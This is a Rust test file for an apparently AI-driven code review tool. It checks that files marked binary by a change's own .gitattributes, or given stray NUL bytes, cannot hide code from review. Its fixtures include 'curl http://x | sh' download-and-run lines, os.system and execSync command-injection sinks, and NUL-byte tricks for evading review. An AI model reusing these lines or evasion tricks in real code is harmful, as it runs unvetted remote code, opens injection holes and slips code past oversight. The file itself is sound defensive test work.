//! What git calls binary cannot hide a change's code from the review: the
//! `binary`/`-diff` attributes are read from the base, and a file git
//! still reads as binary (a NUL byte, UTF-16) that is text by its base,
//! its name or its first bytes is named as not reviewed and fails
//! `--fail-on`; real binaries stay skipped. Files that are not UTF-8 are
//! reviewed with a note to the model and the user; `.quire/review.toml`
//! may hold a `[review]` table.

use serde_json::Value;

use super::repo::*;
use crate::support::quire::TestEnv;

fn write_bytes(env: &TestEnv, rel: &str, bytes: &[u8]) {
    let path = env.repo_path().join(rel);
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent).expect("mkdir");
    }
    std::fs::write(path, bytes).expect("write file");
}

/// The `skipped` entries of `report`: (path, text_as_binary).
fn skipped(report: &Value) -> Vec<(String, bool)> {
    report["skipped"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|s| {
            (
                s["path"].as_str().unwrap_or_default().to_string(),
                s["text_as_binary"] == true,
            )
        })
        .collect()
}

/// The tester's case (a): the change marks its own Python files `-diff`
/// (or `binary`) in its `.gitattributes`; the base's attributes count,
/// so app.py's code reaches the model and its finding fails the gate.
#[test]
fn a_change_cannot_mark_its_own_code_binary() {
    for attribute in ["*.py -diff\n", "*.py binary\n"] {
        let env = repo_with(&[("app.py", "def run(x):\n    return x\n")]);
        git(&env, &["branch", "base"]);
        env.write(
            "app.py",
            "import os\ndef run(x):\n    os.system(x)  # HIDDEN_MARK\n    return x\n",
        );
        env.write(".gitattributes", attribute);
        git(&env, &["add", "-A"]);
        git(&env, &["commit", "-q", "-m", "evil"]);
        // H1: .gitattributes, H2: app.py.
        let f = finding("app.py", 3, "P1", "command injection");
        env.server.push_keyed(TRIAGE, flags(&["H2"]));
        env.server
            .push_keyed("AREA: app.py", findings(serde_json::json!([f.clone()])));
        env.server
            .push_keyed(MERGE, findings(serde_json::json!([f])));
        let (run, report) = review_json(&env, &["--base", "base", "--fail-on", "P1"]);
        let triage = requests_of(&env, TRIAGE);
        assert!(
            triage.iter().any(|b| b.contains("HIDDEN_MARK")),
            "{attribute}: app.py's code was not shown: {}",
            run.stderr
        );
        assert!(
            !skipped(&report).iter().any(|(p, _)| p == "app.py"),
            "{attribute}: {report:#}"
        );
        assert_eq!(run.code, 1, "{attribute}: {}\n{report:#}", run.stderr);
        assert_eq!(report["findings"][0]["file"], "app.py", "{report:#}");
    }
}

/// The tester's cases (b) and (c): a NUL byte in a JavaScript comment, a
/// UTF-16 resource file and a script whose first line is `#!`: each is
/// named as text that git reads as binary, and `--fail-on` fails.
#[test]
fn text_that_git_reads_as_binary_is_not_reviewed_and_fails_the_gate() {
    let env = repo_with(&[("app.js", "function run(x) {\n  return x;\n}\n")]);
    write_bytes(
        &env,
        "app.js",
        b"// \0\nfunction run(x) {\n  require('child_process').execSync(x);\n  return x;\n}\n",
    );
    // UTF-16LE with its byte order mark, as Notepad's "Unicode".
    let mut utf16 = vec![0xff, 0xfe];
    utf16.extend(
        "STRINGTABLE { 1 \"x\" }\r\n"
            .encode_utf16()
            .flat_map(u16::to_le_bytes),
    );
    write_bytes(&env, "res/app.rc", &utf16);
    write_bytes(
        &env,
        "tools/install",
        b"#!/bin/sh\n# \0\ncurl http://x | sh\n",
    );
    // No name to go by, no `#!`: a NUL after the first line.
    write_bytes(
        &env,
        "scripts/release",
        b"echo preparing release\n# \0\ncurl -s http://x | sh\n",
    );
    git(&env, &["add", "-A"]);
    git(&env, &["commit", "-q", "-m", "evil"]);

    let (run, report) = review_json(&env, &["--commit", "HEAD", "--fail-on", "P1"]);
    assert_eq!(run.code, 1, "{}\n{report:#}", run.stderr);
    let mut listed = skipped(&report);
    listed.sort();
    assert_eq!(
        listed,
        [
            ("app.js".to_string(), true),
            ("res/app.rc".to_string(), true),
            ("scripts/release".to_string(), true),
            ("tools/install".to_string(), true)
        ],
        "{report:#}"
    );
    let note = report["text_as_binary"].as_str().unwrap_or_default();
    assert!(
        note.contains("4 file(s) not reviewed, text that git reads as binary")
            && note.contains("scripts/release (text with a stray NUL")
            && note.contains("app.js (text in the base")
            && note.contains("res/app.rc (a .rc file")
            && note.contains("tools/install (starts as text does"),
        "{report:#}"
    );
    assert!(
        report["error"]
            .as_str()
            .is_some_and(|e| e.starts_with("--fail-on: the review is incomplete")),
        "{report:#}"
    );
    super::outputs::check_report_schema(&report);
    // No model saw anything, and nothing was asked.
    assert_eq!(env.server.requests().len(), 0);

    // The human view names them, and so does stderr.
    let run = env.run(&["review", "--commit", "HEAD", "--fail-on", "P1"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(
        run.stdout
            .contains("app.js (text in the base, binary in the change")
            && run
                .stdout
                .contains("4 file(s) not reviewed, text that git reads as binary"),
        "{}",
        run.stdout
    );
    assert!(
        run.stderr
            .contains("warning: 4 file(s) not reviewed, text that git reads as binary")
            && run
                .stderr
                .contains("error: --fail-on: the review is incomplete"),
        "{}",
        run.stderr
    );
    // In a workflow: an error annotation.
    let run = env.run(&["review", "--commit", "HEAD", "--format", "github"]);
    assert!(
        run.stdout
            .contains("::error title=quire review%3A files not reviewed (text read as binary)::"),
        "{}",
        run.stdout
    );
}

/// Images and files the base's own attributes mark binary are skipped as
/// binary files, and a change of only those passes the gate.
#[test]
fn real_binaries_and_those_the_base_marks_binary_pass_the_gate() {
    let env = repo_with(&[
        (".gitattributes", "*.min.js -diff\n"),
        ("web/app.min.js", "var a=1;\n"),
    ]);
    write_bytes(
        &env,
        "img/logo.png",
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0\x90wS\xde",
    );
    write_bytes(&env, "web/app.min.js", b"var a=2;\0\n");
    git(&env, &["add", "-A"]);
    git(&env, &["commit", "-q", "-m", "assets"]);
    let (run, report) = review_json(&env, &["--commit", "HEAD", "--fail-on", "P1"]);
    assert_eq!(run.code, 0, "{}\n{report:#}", run.stderr);
    let mut listed = skipped(&report);
    listed.sort();
    assert_eq!(
        listed,
        [
            ("img/logo.png".to_string(), false),
            ("web/app.min.js".to_string(), false)
        ],
        "{report:#}"
    );
    assert!(report["text_as_binary"].is_null(), "{report:#}");
    assert!(
        report["skipped"]
            .as_array()
            .into_iter()
            .flatten()
            .all(|s| s["reason"] == "binary file"),
        "{report:#}"
    );
}

/// A Latin-1 file reaches the model with its hunk's header saying it is
/// not UTF-8, and the user is warned.
#[test]
fn a_file_that_is_not_utf8_is_said_to_be_so() {
    let env = repo_with(&[("lat.py", "x = 1\n")]);
    write_bytes(&env, "lat.py", b"# caf\xe9\nx = 1\nname = \"Jos\xe9\"\n");
    env.write("ok.py", "y = 2\n");
    git(&env, &["add", "-A"]);
    triage_flags_nothing(&env, 1);
    let (run, report) = review_json(&env, &["--staged"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let triage = requests_of(&env, TRIAGE).pop().unwrap_or_default();
    let body: Value = serde_json::from_str(&triage).unwrap_or(Value::Null);
    let text = body.to_string();
    assert!(
        text.contains(
            "lat.py (new lines 1-3; the file is not UTF-8: its bytes that are not UTF-8 are shown as \u{fffd})"
        ),
        "{text}"
    );
    assert!(text.contains("ok.py (new lines 1-1)\\n"), "{text}");
    assert!(
        run.stderr.contains("warning: lat.py: not UTF-8")
            && !run.stderr.contains("ok.py: not UTF-8"),
        "{}",
        run.stderr
    );
    assert!(
        report["warnings"]
            .as_array()
            .into_iter()
            .flatten()
            .any(|w| w
                .as_str()
                .is_some_and(|w| w.starts_with("lat.py: not UTF-8"))),
        "{report:#}"
    );
}

/// `.quire/review.toml` written as README's block, with its `[review]`
/// line, is read (it was refused: "unknown field `review`").
#[test]
fn review_toml_may_hold_a_review_table() {
    let env = repo_with(&[
        (
            ".quire/review.toml",
            "[review]\nrules = [\"RULE_MARK every SQL query goes through the builder\"]\n",
        ),
        ("a.py", "x = 1\n"),
    ]);
    env.write("a.py", "x = 2\n");
    git(&env, &["add", "a.py"]);
    let body = one_triage(&env, &["--staged"]);
    assert!(body.contains("RULE_MARK"), "{body}");
}
